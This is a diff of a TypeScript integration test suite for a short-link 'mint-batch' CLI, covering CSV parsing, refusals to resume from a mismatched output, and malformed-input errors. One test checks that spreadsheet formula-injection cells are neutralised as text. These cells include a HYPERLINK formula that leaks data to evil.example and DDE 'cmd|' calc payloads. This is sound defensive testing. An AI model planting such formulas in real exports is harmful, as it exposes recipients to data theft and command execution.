@@ -1,11 +1,11 @@
 import { execFile } from 'node:child_process';
-import { mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { startLocalRuntime, type LocalRuntime } from '../../local/runtime';
 import { shortLinkKey } from '../../lambdas/adapters/naming';
-import { CsvParser } from '../../clients/cli/csv';
+import { parse } from 'csv-parse/sync';
 import { deleteEntries, deleteProject, seedEntries, uid } from '../support/seed';
 import { registerSensitive } from '../support/sensitive';
 
@@ -23,10 +23,7 @@ const cli = async (args: string[]): Promise<{ code: number; stdout: string; stde
   }
 };
 
-const records = (file: string): string[][] => {
-  const parser = new CsvParser();
-  return [...parser.push(readFileSync(file)), ...parser.end()].map((r) => r.fields);
-};
+const records = (file: string): string[][] => parse(readFileSync(file), { relax_column_count: true });
 
 let runtime: LocalRuntime;
 const previousBase = process.env.SHORT_LINK_BASE_URL;
@@ -74,12 +71,12 @@ describe('mint-batch against the local runtime', () => {
     const text = readFileSync(output, 'utf8');
     expect(text.trimEnd().split('\n')).toHaveLength(1001);
     const [header, ...rows] = records(output);
-    expect(header).toEqual(['entry_id', 'url', 'short_url', 'token', 'expires_at', 'error_code', 'error_message', 'name']);
+    expect(header).toEqual(['entry_id', 'url', 'short_url', 'token', 'expires_at', 'error_code', 'error_message', 'input_digest', 'name']);
     expect(rows.map((r) => r[0])).toEqual(ids.map((id, i) => (i === BAD_ROW ? 'bad--id' : id)));
-    expect(rows[BAD_ROW]).toEqual(['bad--id', '', '', '', '', 'invalid_request', expect.stringMatching(/^Invalid request: entry_id must be/), 'Doe, Jane']);
+    expect(rows[BAD_ROW]).toEqual(['bad--id', '', '', '', '', 'invalid_request', expect.stringMatching(/^Invalid request: entry_id must be/), expect.stringMatching(/^[0-9a-f]{16}$/), 'Doe, Jane']);
     for (const [i, row] of rows.entries()) {
       if (i === BAD_ROW) continue;
-      expect([row[5], row[6], row[7]]).toEqual(['', '', `Person "${i}"`]);
+      expect([row[5], row[6], row[8]]).toEqual(['', '', `Person "${i}"`]);
       registerSensitive(row[3], row[1], row[2], row[2].split('/').pop());
       shortCodes.push(row[2].split('/').pop()!);
     }
@@ -163,6 +160,98 @@ describe('mint-batch against the local runtime', () => {
     expect(readFileSync(output, 'utf8')).toBe(before);
   });
 
+  describe('refuses (exit 2), leaving the output as it was, to carry on from an output another input wrote', () => {
+    /** The 1,000-row input with `change` applied to its lines (header first), and a copy of the output, cut mid-row when `cut`. */
+    const attempt = async (change: (lines: string[]) => string[], cut = false) => {
+      const changed = path.join(dir, `changed-${uid('in')}.csv`);
+      const copy = path.join(dir, `copy-${uid('out')}.csv`);
+      writeInput(changed);
+      writeFileSync(changed, `${change(readFileSync(changed, 'utf8').trimEnd().split('\n')).join('\n')}\n`);
+      const text = readFileSync(output);
+      writeFileSync(copy, cut ? text.subarray(0, text.length - 30) : text);
+      const before = readFileSync(copy);
+      const result = await cli(['mint-batch', '--project', projectId, '--input', changed, '--output', copy, '--resume-url', 'https://quiz.example.com/flow']);
+      expect(readFileSync(copy).equals(before)).toBe(true);
+      return { code: result.code, stderr: result.stderr.replaceAll(changed, 'IN').replaceAll(copy, 'OUT') };
+    };
+
+    it('the same entries, one pass-through cell changed (row 700), even with its last row cut off', async () => {
+      const expected = {
+        code: 2,
+        stderr: `OUT row 700 (entry ${ids[699]}) was written from other cells than line 701 of IN holds now: it is another input's output, or the input changed since. Give another --output.\n`,
+      };
+      const change = (lines: string[]) => lines.map((line, i) => (i === 700 ? line.replace(/"Person ""699"""$/, '"Person ""six hundred"""') : line));
+      expect(await attempt(change)).toEqual(expected);
+      expect(await attempt(change, true)).toEqual(expected);
+    });
+
+    it('the same entries and pass-through cells, an expires_at cell (not written back) filled in', async () => {
+      const at = new Date(Date.now() + 86400_000).toISOString();
+      expect(await attempt((lines) => lines.map((line, i) => (i === 1 ? line.replace(',,', `,${at},`) : line)))).toEqual({
+        code: 2,
+        stderr: `OUT row 1 (entry ${ids[0]}) was written from other cells than line 2 of IN holds now: it is another input's output, or the input changed since. Give another --output.\n`,
+      });
+    });
+
+    it('another entry in a row', async () => {
+      expect(await attempt((lines) => lines.map((line, i) => (i === 3 ? line.replace(ids[2], 'entry_other') : line)))).toEqual({
+        code: 2,
+        stderr: `OUT row 3 is for entry ${ids[2]}, but that row of IN (line 4) is for entry_other: it is another input's output. Give another --output.\n`,
+      });
+    });
+
+    it('an input with fewer rows than the output', async () => {
+      expect(await attempt((lines) => lines.slice(0, 11))).toEqual({ code: 2, stderr: "OUT has 1000 rows, but IN only 10: it is another input's output. Give another --output.\n" });
+    });
+  });
+
+  it('refuses a malformed input with exit 2, the line and no stack trace, before minting or writing anything', async () => {
+    const out = path.join(dir, 'never-written.csv');
+    const good = ids.slice(0, 600).map((id) => `${id},,fine`);
+    for (const [text, message] of [
+      [`entry_id,"expires_at\n${ids[0]},,x\n`, 'line 1: a quoted field is never closed'],
+      // Past the first batch of 500: a run that streamed would have minted and written those rows first.
+      [`entry_id,expires_at,name\n${good.join('\n')}\n${ids[600]},,"Doe" Jane\n${ids[601]},,x\n`, 'line 602: text after a closing quote'],
+      [`entry_id,expires_at,name\n${good.join('\n')}\n${ids[600]},,Jane "JD" Doe\n`, 'line 602: a quote inside an unquoted field (quote the whole field and double the quote)'],
+      [`entry_id,expires_at,name\n${good.join('\n')}\n${ids[600]},,"Jane\n${ids[601]},,x\n`, 'line 602: a quoted field is never closed'],
+      [Buffer.concat([Buffer.from(`entry_id,expires_at,name\n${good.join('\n')}\n${ids[600]},,Jos`), Buffer.from([0xe9]), Buffer.from('\n')]), 'line 602: the file is not UTF-8 text (save it as "CSV UTF-8")'],
+    ] as const) {
+      const bad = path.join(dir, 'malformed.csv');
+      writeFileSync(bad, text);
+      const result = await cli(['mint-batch', '--project', projectId, '--input', bad, '--output', out]);
+      expect([result.code, result.stderr]).toEqual([2, `${bad} ${message}. Nothing was minted or written: fix the file and run the command again.\n`]);
+      expect(existsSync(out)).toBe(false);
+    }
+  });
+
+  it('writes cells from the file that a spreadsheet would run as formulas as text, phone numbers and other numbers as they are, and carries on from them', async () => {
+    const input = path.join(dir, 'formulas.csv');
+    const output = path.join(dir, 'formulas-links.csv');
+    const cells = [
+      [ids[0], '"=HYPERLINK(""https://evil.example/?""&D2,""Click"")"', '+447700900123'],
+      [ids[1], `"@SUM(1+1)*cmd|' /C calc'!A0"`, '-12.50'],
+      [`"=cmd|' /C calc'!A0"`, '+cmd|x!A0', '-2+3'],
+      [ids[2], '"\t=1+1"', '"\r=1+1"'],
+    ];
+    writeFileSync(input, `entry_id,name,phone\n${cells.map((row) => row.join(',')).join('\n')}\n`);
+    const result = await cli(['mint-batch', '--project', projectId, '--input', input, '--output', output]);
+    expect(result.code).toBe(1);
+    const [, ...rows] = records(output);
+    for (const row of rows) if (row[3]) registerSensitive(row[3], row[1]);
+    expect(rows.map((row) => [row[0], row[5], row[8], row[9]])).toEqual([
+      [ids[0], '', `'=HYPERLINK("https://evil.example/?"&D2,"Click")`, '+447700900123'],
+      [ids[1], '', `'@SUM(1+1)*cmd|' /C calc'!A0`, '-12.50'],
+      [`'=cmd|' /C calc'!A0`, 'invalid_request', `'+cmd|x!A0`, `'-2+3`],
+      [ids[2], '', `'\t=1+1`, `'\r=1+1`],
+    ]);
+    // The columns this program writes are left alone: none can begin so.
+    expect(rows.filter((row) => !row[5]).map((row) => [/^[0-9a-f]{64}$/.test(row[3]), /^\d{4}-/.test(row[4])])).toEqual([[true, true], [true, true], [true, true]]);
+    const before = readFileSync(output, 'utf8');
+    const again = await cli(['mint-batch', '--project', projectId, '--input', input, '--output', output]);
+    expect([again.code, again.stderr]).toEqual([1, expect.stringContaining('Wrote 0 rows to')]);
+    expect(readFileSync(output, 'utf8')).toBe(before);
+  });
+
   it('exits 3, saying how to carry on, when the API cannot be reached', async () => {
     const result = await cli(['--endpoint', 'http://127.0.0.1:9', 'mint-batch', '--project', projectId, '--input', input, '--output', path.join(dir, 'unreachable.csv')]);
     expect(result.code).toBe(3);
@@ -220,6 +309,6 @@ describe('mint-batch against the local runtime', () => {
     const refused = await cli(['mint-batch', '--project', uid('proj'), '--input', input, '--output', out]);
     expect(refused.code).toBe(1);
     expect(refused.stderr).toMatch(/^The API refused the batch: 409 no_active_credential: /);
-    expect(readFileSync(out, 'utf8')).toBe('entry_id,url,short_url,token,expires_at,error_code,error_message,name\n');
+    expect(readFileSync(out, 'utf8')).toBe('entry_id,url,short_url,token,expires_at,error_code,error_message,input_digest,name\n');
   });
 });
